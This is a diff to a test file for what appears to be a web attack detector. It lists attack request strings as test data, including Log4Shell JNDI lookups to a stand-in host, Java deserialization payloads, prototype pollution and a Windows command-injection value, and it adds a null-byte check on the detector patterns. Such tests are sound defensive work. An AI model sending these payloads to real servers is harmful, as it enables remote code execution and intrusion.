@@ -258,6 +258,7 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['java-jndi-lookup', '/p?x=${jndi:ldap://evil.example/a}'],
   ['java-nested-lookup', '/p?x=${${lower:j}ndi:ldap://evil.example/a}'],
   ['java-serialized', '/p?data=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ'],
+  ['java-serialized', '/p?data=%AC%ED%00%05sr%00%11java.util.HashMap'], // the bytes themselves
   ['generic-prototype-brackets', '/api?q[constructor][prototype][admin]=1'],
   ['generic-node-dos', '/api?x=while(true){}'],
   ['rce-windows-if-compare', '/p?c=x%26if+%25a%25+equ+1+echo+y'],
@@ -548,12 +549,13 @@ describe('rule families', () => {
     expect(unmatched.map((det) => `${det.id} ${det.pattern.source.slice(0, 60)}`)).toEqual([]);
   });
 
-  it('looks in each view only for what it can hold: no upper case where text is lower-cased, no comment where comments are gone', () => {
+  it('looks in each view only for what it can hold: no upper case where text is lower-cased, no comment where comments are gone, no null byte', () => {
     // Escapes (\S, \x41, \u00bc) and named groups are not literal letters.
     const literal = (det: (typeof DETECTORS)[number]) => det.pattern.source.replace(/\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}|\\k<\w+>|\\[a-zA-Z]|\(\?<\w+>/g, '');
     const upper = DETECTORS.filter((det) => det.view !== 'raw' && !det.pattern.flags.includes('i') && /[A-Z]/.test(literal(det)));
     const comment = DETECTORS.filter((det) => det.view !== 'raw' && det.view !== 'commented' && /\\\/\\\*|\\\*\\\//.test(det.pattern.source));
-    expect([...upper, ...comment].map((det) => det.id)).toEqual([]);
+    const nullByte = DETECTORS.filter((det) => det.view !== 'raw' && /\\x00|\\u0000/.test(det.pattern.source));
+    expect([...upper, ...comment, ...nullByte].map((det) => det.id)).toEqual([]);
   });
 
   it('gates on punctuation only: an unknown character is refused, a non-ASCII one shares a bit', () => {
